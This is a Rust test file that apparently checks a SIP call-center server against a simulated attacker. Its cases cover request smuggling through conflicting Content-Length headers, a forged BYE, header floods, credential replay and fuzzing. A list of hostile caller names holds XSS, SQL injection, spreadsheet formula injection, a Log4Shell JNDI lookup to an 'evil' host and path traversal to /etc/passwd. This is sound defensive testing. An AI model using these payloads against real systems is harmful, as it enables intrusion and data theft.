//! Somebody who knows SIP and means harm, beside two people who talk: each shape of attack with the answer that it is
//! owed, the counter that an operator sees, and records that stay clean. `HOTLINE_FUZZ_CASES` sets how many random
//! streams are tried, `HOTLINE_FUZZ_SEED` the seed, which a failure prints.

mod sim;

use bytes::Bytes;
use hotline::cdr::{csv_header, csv_row};
use hotline::events::EventKind;
use hotline::sip::message::frame::Framer;
use hotline::sip::message::{HeaderName, Message, Method};
use hotline::sip::peer::Transport;
use sim::raw::RawCall;
use sim::stream::Stream;
use sim::world::seconds;
use sim::{Dice, Fate, PhoneId, Settings, World};
use std::cell::RefCell;
use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

const STREAMS: [Transport; 4] = [Transport::Tcp, Transport::Tls, Transport::Ws, Transport::Wss];

fn attacker() -> SocketAddr {
    "10.9.0.66:40066".parse().unwrap()
}

fn talking() -> (World, PhoneId, PhoneId) {
    let mut world = World::new(Settings { calls: 20, tick: Duration::from_millis(20), ..Settings::default() });
    let agent = world.agent("1001");
    let caller = world.caller("13800138000");
    world.dial(caller, "9000");
    world.until_heard(caller, "voice of 1001");
    (world, caller, agent)
}

fn expect_undisturbed(world: &mut World, caller: PhoneId, agent: PhoneId, what: &str) {
    assert!(world.is_up(caller) && world.is_up(agent), "the call broke: {what}\n{}", world.story());
    let neighbour = "10.9.0.77:5060".parse().unwrap();
    world.by_hand.remove(&neighbour);
    world.send_by_hand(neighbour, request("OPTIONS", neighbour, "UDP", "alive", "", ""));
    world.run(Duration::from_millis(100));
    assert_eq!(finals(world, neighbour), [200], "no answer to an OPTIONS after {what}");
}

fn end(mut world: World, caller: PhoneId) {
    world.hang_up(caller);
    world.finish();
}

fn finals(world: &World, address: SocketAddr) -> Vec<u16> {
    world.by_hand[&address].iter().map(Message::status).filter(|status| *status >= 200).collect()
}

fn unusable(world: &World) -> u64 {
    let stats = world.view().sip;
    stats.unanswerable + stats.refused
}

/// A sound request with further header lines and without a Content-Length of its own unless they bring none.
fn request(method: &str, from: SocketAddr, transport: &str, id: &str, lines: &str, body: &str) -> Bytes {
    let length = match lines.contains("Content-Length") || lines.starts_with('l') {
        true => String::new(),
        false => format!("Content-Length: {}\r\n", body.len()),
    };
    Bytes::from(format!(
        "{method} sip:10.0.0.1 SIP/2.0\r\nVia: SIP/2.0/{transport} {from};branch=z9hG4bK{id};rport\r\nMax-Forwards: 70\r\n\
         From: <sip:a@{from}>;tag=1\r\nTo: <sip:10.0.0.1>\r\nCall-ID: {id}\r\nCSeq: 1 {method}\r\n{lines}{length}\r\n{body}"
    ))
}

#[test]
fn two_messages_in_one_segment_cut_anywhere_are_two_messages_over_every_stream() {
    let (mut world, caller, agent) = talking();
    for (nth, transport) in STREAMS.into_iter().enumerate() {
        let name = transport.via_name();
        let pair = |cut: usize| {
            let first = request("REGISTER", attacker(), name, &format!("r{nth}-{cut}"), "", "");
            let second = request("OPTIONS", attacker(), name, &format!("o{nth}-{cut}"), "l :\r\n 4\r\n", "body");
            [&first[..], b"\r\n\r\n", &second[..]].concat()
        };
        let mut stream = Stream::open(&mut world, attacker(), transport);
        // The messages grow with their number, so the last cut is beyond the end of the first ones.
        for cut in 0..pair(999).len() {
            let bytes = pair(cut);
            let cut = cut.min(bytes.len());
            world.by_hand.insert(attacker(), Vec::new());
            stream.write(&mut world, &bytes[..cut]);
            stream.write(&mut world, &bytes[cut..]);
            world.run(Duration::from_millis(20));
            assert_eq!((finals(&world, attacker()), stream.waiting()), (vec![401, 200], 0), "{name} cut at {cut}");
        }
        stream.close(&mut world);
    }
    expect_undisturbed(&mut world, caller, agent, "cuts");
    end(world, caller);
}

/// The BYE that ends the call of somebody else, if it is ever read as a message: the attacker has seen the whole dialog.
fn stolen_bye(world: &mut World, caller: PhoneId) -> String {
    let heard: Rc<RefCell<Vec<Message>>> = Rc::default();
    let ear = heard.clone();
    world.filter(move |_, message| {
        ear.borrow_mut().push(message.clone());
        Fate::Passes
    });
    world.with(caller, |phone, now| assert!(phone.hold(now, true)));
    world.run(seconds(1.0));
    world.with(caller, |phone, now| assert!(phone.hold(now, false)));
    world.run(seconds(1.0));
    world.no_filter();
    let heard = heard.borrow();
    let invite = heard.iter().find(|m| m.is_request() && *m.method() == Method::Invite).expect("a hold");
    let text = |name| sim::raw::header(invite, name);
    format!(
        "BYE {} SIP/2.0\r\nVia: SIP/2.0/TCP 10.9.0.66;branch=z9hG4bKstolen\r\nFrom: {}\r\nTo: {}\r\nCall-ID: {}\r\n\
         CSeq: 900 BYE\r\nContent-Length: 0\r\n\r\n",
        String::from_utf8_lossy(invite.request_uri()),
        text(HeaderName::From),
        text(HeaderName::To),
        text(HeaderName::CallId)
    )
}

/// Lengths that a proxy in front of us may read in another way than we do. What matters: a request that another reader
/// takes for a body is never carried out, and where the end cannot be known for certain nothing more is read.
#[test]
fn a_request_smuggled_in_a_body_is_never_carried_out() {
    let (mut world, caller, agent) = talking();
    let bye = stolen_bye(&mut world, caller);
    let whole = bye.len();
    // Lines about the length, whether the stream goes on, and the answer.
    let shapes: [(String, bool, &[u16]); 20] = [
        (format!("Content-Length: {whole}\r\n"), true, &[200]),
        (format!("Content-Length : {whole}\r\n"), true, &[200]),
        (format!("Content-Length\t:\t{whole}\r\n"), true, &[200]),
        (format!("l:{whole}\r\n"), true, &[200]),
        (format!("Content-Length:\r\n {whole}\r\n"), true, &[200]),
        (format!("Content-Length: 000{whole}\r\n"), true, &[200]),
        (format!("Content-Length: {whole}\r\nTransfer-Encoding: chunked\r\n"), true, &[200]),
        (format!("Content-Length: {whole}\r\nContent-Length: 0\r\n"), false, &[400]),
        (format!("Content-Length: 0\r\nContent-Length: {whole}\r\n"), false, &[400]),
        (format!("Content-Length: {whole}\r\nl: {whole}\r\n"), false, &[400]),
        (format!("Content-Length: {whole}, 0\r\n"), false, &[400]),
        (format!("Content-Length: +{whole}\r\n"), false, &[400]),
        (format!("Content-Length: -{whole}\r\n"), false, &[400]),
        (format!("Content-Length: 0x{whole}\r\n"), false, &[400]),
        (format!("Content-Length: {whole};x=y\r\n"), false, &[400]),
        (format!("Content-Length: {whole}\r\n\t, 0\r\n"), false, &[400]),
        ("Content-Length: 4294967296\r\n".into(), false, &[400]),
        // A lone CR ends a line for some readers and not for others.
        (format!("X: a\rContent-Length: {whole}\r\nContent-Length: 0\r\n"), false, &[400]),
        (format!("Content-Length: {whole}\r\nX: a\rContent-Length: 0\r\n"), false, &[400]),
        // No name, so no length; the message is refused, and ends where the one length says.
        (format!("Content-Length\0: 0\r\nContent-Length: {whole}\r\n"), true, &[400]),
    ];
    for (nth, (lines, goes_on, owed)) in shapes.iter().enumerate() {
        let before = unusable(&world);
        world.by_hand.insert(attacker(), Vec::new());
        let mut stream = Stream::open(&mut world, attacker(), Transport::Tcp);
        let id = format!("smuggled{nth}");
        stream.write(&mut world, &request("OPTIONS", attacker(), "TCP", &id, lines, &bye));
        world.run(seconds(1.0));
        assert_eq!((finals(&world, attacker()), stream.open), (owed.to_vec(), *goes_on), "{lines:?}");
        assert_eq!(unusable(&world) - before, u64::from(*owed != [200]), "counted: {lines:?}");
        stream.close(&mut world);
        expect_undisturbed(&mut world, caller, agent, lines);
    }
    end(world, caller);
}

#[test]
fn floods_of_headers_and_lengths_beyond_all_measure_are_refused_and_hold_nothing() {
    let (mut world, caller, agent) = talking();
    let lines = |count: usize| "X: y\r\n".repeat(count);
    let long = format!("X: {}\r\n", "y".repeat(66_000));
    let folds = format!("X: a{}\r\n", "\r\n b".repeat(300));
    let vias = format!("Via: SIP/2.0/UDP {}\r\n", attacker()).repeat(200);
    let shapes: [(&str, String, &[u16], &[u16]); 8] = [
        ("256 headers", lines(256 - 7), &[200], &[200]),
        ("257 headers", lines(257 - 7), &[513], &[513]),
        ("5,000 headers", lines(5_000), &[513], &[513]),
        ("one header of 66 kB", long, &[513], &[513]),
        ("300 folds", folds, &[513], &[513]),
        ("200 hops", vias, &[], &[]),
        ("a body of 10 MB to come", "Content-Length: 10485760\r\n".into(), &[400], &[413]),
        ("a body of 4 GB to come", "Content-Length: 4294967295\r\n".into(), &[400], &[413]),
    ];
    for (nth, (what, lines, datagram, stream_owed)) in shapes.iter().enumerate() {
        let from: SocketAddr = SocketAddr::from(([10, 9, 0, 66], 41_000 + nth as u16));
        let before = unusable(&world);
        let raw = request("OPTIONS", from, "UDP", &format!("d{nth}"), lines, "");
        world.send_by_hand(from, raw);
        world.run(seconds(1.0));
        assert_eq!(finals(&world, from), *datagram, "{what} by datagram");
        world.by_hand.insert(from, Vec::new());
        let mut stream = Stream::open(&mut world, from, Transport::Tcp);
        for piece in request("OPTIONS", from, "TCP", &format!("s{nth}"), lines, "").chunks(4096) {
            stream.write(&mut world, piece);
            assert!(stream.waiting() <= 64 * 1024 + 4096, "{what} fills the memory");
        }
        world.run(seconds(1.0));
        assert_eq!(finals(&world, from), *stream_owed, "{what} by stream");
        let counted = unusable(&world) - before;
        assert_eq!(counted, if *datagram == [200] { 0 } else { 2 }, "{what} is counted");
        stream.close(&mut world);
        expect_undisturbed(&mut world, caller, agent, what);
    }
    end(world, caller);
}

#[test]
fn credentials_that_were_overheard_register_nobody_and_call_nobody_from_elsewhere() {
    let mut world = World::new(Settings::default());
    let heard: Rc<RefCell<Vec<Bytes>>> = Rc::default();
    let ear = heard.clone();
    world.filter(move |_, message| {
        let opens = matches!(message.method(), Method::Register | Method::Invite) && message.is_request();
        if opens && message.header(HeaderName::Authorization).is_some() {
            ear.borrow_mut().push(message.raw().clone());
        }
        Fate::Passes
    });
    let agent = world.agent("1001");
    let called = world.agent("1002");
    world.dial(agent, "1002");
    world.until_heard(agent, "voice of 1002");
    world.hang_up(agent);
    world.until_over(called);
    world.no_filter();
    let heard = heard.borrow().clone();
    assert!(heard.len() >= 3, "{}", heard.len());
    let (contacts, arrived) = (world.view().contacts.clone(), world.model.arrived);
    for (nth, raw) in heard.iter().enumerate() {
        let text = String::from_utf8(raw.to_vec()).unwrap();
        let elsewhere = attacker();
        let via = text.lines().find(|line| line.starts_with("Via:")).unwrap();
        let new_via = format!("Via: SIP/2.0/UDP {elsewhere};branch=z9hG4bKreplay{nth};rport");
        for call_id in [true, false] {
            let mut replay = text.replace(via, &new_via.replace("replay", &format!("replay{call_id}")));
            if !call_id {
                let own = text.lines().find(|line| line.starts_with("Call-ID:")).unwrap();
                replay = replay.replace(own, &format!("Call-ID: replay-{nth}"));
            }
            world.by_hand.insert(elsewhere, Vec::new());
            world.send_by_hand(elsewhere, replay.into());
            world.run(seconds(1.0));
            // Under its own Call-ID it is a copy that came by another path, while the first is remembered (8.2.2.2).
            let owed: &[u16] = if call_id { &[401, 482] } else { &[401] };
            let got = finals(&world, elsewhere);
            assert!(got.len() == 1 && owed.contains(&got[0]), "{got:?} to {text}");
        }
    }
    assert_eq!((world.view().contacts, world.model.arrived), (contacts, arrived));
    world.finish();
}

/// What callers put where a name, a number or an id stands.
const HOSTILE: [&str; 12] = [
    "<script>alert(1)</script>",
    "'; DROP TABLE cdr; --",
    "\\\" OR \\\"\\\"=\\\"",
    "=HYPERLINK(\\\"http://evil\\\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "%s%n%x%p",
    "${jndi:ldap://evil/a}",
    "../../../etc/passwd",
    "a\u{7}b\u{1b}[31mc\u{8}\u{85}\u{2028}",
    "x, y\t\u{202e}gnp.exe",
];

#[test]
fn names_that_callers_choose_run_nowhere_and_forge_nothing_in_records() {
    let mut world = World::new(Settings::default());
    let agent = world.agent("1001");
    for (nth, name) in HOSTILE.into_iter().enumerate() {
        let address: SocketAddr = SocketAddr::from(([10, 2, 99, 1 + nth as u8], 5060));
        let mut call = RawCall::new(address, "9000");
        let user: String = name.bytes().map(|b| format!("%{b:02X}")).collect();
        call.from = format!("\"{name}\" <sip:{user}@hotline>;tag=hand");
        // Of what a Call-ID may hold (RFC 3261 25.1 word).
        let word = |c: char| c.is_ascii_alphanumeric() || "-.!%*_+`'~()<>:\"/[]?{}".contains(c);
        call.call_id = format!("{}{nth}", name.replace(|c: char| !word(c), "_"));
        call.headers = format!("User-Agent: {name}\r\nSubject: {name}\r\nX-Any: {name}\r\n");
        let sdp = call.sdp();
        let invite = call.invite(Some(&sdp));
        world.send_by_hand(address, invite);
        world.until("the agent rings", |world| world.phones[agent.0].calls.len() == nth + 1);
        let shown = world.call(agent).from.clone();
        assert!(!shown.chars().any(|c| c.is_control()), "{name:?} is shown as {shown:?}");
        world.run(seconds(1.0));
        let ok = world.by_hand[&address].iter().find(|message| message.status() == 200).expect("queued").clone();
        call.learn(&ok);
        world.send_by_hand(address, call.ack(None));
        world.run(seconds(1.0));
        let bye = call.bye();
        world.send_by_hand(address, bye);
        world.run(seconds(10.0));
    }
    assert_eq!(world.records.len(), HOSTILE.len());
    let columns = csv_header().trim_end().split(',').count();
    for record in &world.records {
        let row = csv_row(record);
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(row.as_bytes());
        let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!((rows.len(), rows[0].len()), (1, columns), "{row:?}");
        for cell in rows[0].iter() {
            assert!(!cell.chars().any(char::is_control), "{cell:?}");
            assert!(cell == "-" || !cell.starts_with(['=', '+', '-', '@']), "a spreadsheet runs {cell:?}");
        }
        let json = serde_json::to_string(record).unwrap();
        assert!(!json.chars().any(char::is_control), "{json:?}");
    }
    for event in &world.journal {
        let lines = [format!("{:?}", event.kind), serde_json::to_string(event).unwrap()];
        assert!(lines.iter().all(|line| !line.chars().any(char::is_control)), "{lines:?}");
    }
    let failed = world.count(|kind| matches!(kind, EventKind::RecordingFailed { .. }));
    assert_eq!(failed, 0);
    world.finish();
}

#[test]
fn streams_of_bent_messages_cut_at_random_are_read_alike_however_they_are_cut() {
    let number = |name: &str, default: u64| std::env::var(name).ok().and_then(|n| n.parse().ok()).unwrap_or(default);
    let (cases, seed) = (number("HOTLINE_FUZZ_CASES", 300).min(1_000_000), number("HOTLINE_FUZZ_SEED", 1));
    eprintln!("seed {seed}: run again with HOTLINE_FUZZ_SEED={seed} HOTLINE_FUZZ_CASES={cases}");
    let mut dice = Dice::new(seed);
    let (mut world, caller, agent) = talking();
    let splinters: [&[u8]; 12] = [
        b"\r\n",
        b"\r\n\r\n",
        b"\r",
        b"\0",
        b"l: 9\r\n",
        b"Content-Length: 3\r\n",
        b"SIP/2.0 200 OK\r\n",
        b" ",
        b"\xff",
        b":",
        b"0",
        b"INVITE sip:a SIP/2.0\r\n",
    ];
    for case in 0..cases {
        let mut bytes = Vec::new();
        for n in 0..1 + dice.below(4) {
            let method = dice.pick(&["OPTIONS", "REGISTER", "INVITE", "BYE", "ACK", "CANCEL", "NOTIFY", "X"]);
            let body = "z".repeat(dice.below(30) as usize);
            let mut message = request(method, attacker(), "TCP", &format!("c{case}-{n}"), "", &body).to_vec();
            for _ in 0..dice.below(3) {
                let at = dice.below(message.len() as u64) as usize;
                let cut = (at + dice.below(6) as usize).min(message.len());
                message.splice(at..cut, dice.pick(&splinters).iter().copied());
            }
            bytes.extend(message);
        }
        let frames = |piece: &mut dyn FnMut() -> usize| {
            let (mut framer, mut found, mut at) = (Framer::default(), Vec::new(), 0);
            while at < bytes.len() {
                let end = (at + piece()).min(bytes.len());
                framer.push(&bytes[at..end]);
                found.extend(std::iter::from_fn(|| framer.next()));
                at = end;
            }
            found
        };
        let whole = frames(&mut || bytes.len());
        assert_eq!(frames(&mut || 1), whole, "case {case} octet by octet");
        assert_eq!(frames(&mut || 1 + dice.below(50) as usize), whole, "case {case} in random pieces");
        let mut stream = Stream::open(&mut world, attacker(), Transport::Tcp);
        stream.write(&mut world, &bytes);
        world.run(Duration::from_millis(dice.below(20)));
        stream.close(&mut world);
        if case % 100 == 99 {
            world.by_hand.clear();
            expect_undisturbed(&mut world, caller, agent, &format!("case {case}"));
        }
    }
    end(world, caller);
}
